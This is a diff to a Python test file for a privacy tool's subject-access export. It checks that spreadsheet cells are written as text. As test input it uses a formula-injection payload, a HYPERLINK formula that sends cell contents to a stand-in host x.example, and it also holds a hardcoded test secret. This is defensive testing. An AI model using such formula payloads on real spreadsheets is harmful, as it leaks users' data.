@@ -11,7 +11,7 @@ import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
-from governance.subject_access import export
+from governance.subject_access import Found, export
 from sihub.privacy.keys import ENV, PseudonymKeyError, key_file, load_key
 
 SECRET = "q7Hk2-Vr9xLm4Tz8Wb1Nc6Yd3Ff5Gg0Jj_s"
@@ -66,14 +66,14 @@ def test_a_secret_of_too_little_variety_is_refused(weak: str, tmp_path: Path, mo
 
 
 def test_the_subject_access_workbook_writes_text_as_text(tmp_path: Path) -> None:
-    found = {
-        "health/notes": pd.DataFrame(
-            {"note": ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+SUM(1,2)", "plain"], "n": [1, 2, None]}
-        )
-    }
-    path = export(found, tmp_path / "sar")
+    rows = pd.DataFrame({
+        "dataset": "health/notes", "found_by": "the identifier given", "delivery_sha256": "f", "row": [1, 2, 3],
+        "_source_sha256": "f", "_row": [1, 2, 3], "_nodes": [["nhs:1"]] * 3,
+        "note": ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+SUM(1,2)", "plain"], "n": [1, 2, None],
+    })  # fmt: skip
+    path = export(Found({"health/notes": rows}), tmp_path / "sar")
     assert path.stat().st_mode & 0o077 == 0
     sheet = load_workbook(path).worksheets[0]
     cells = [c for row in sheet.iter_rows() for c in row]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
-    assert sheet["A2"].value.startswith("=HYPERLINK") and sheet["B2"].value == 1
+    assert sheet["E2"].value.startswith("=HYPERLINK") and sheet["F2"].value == 1
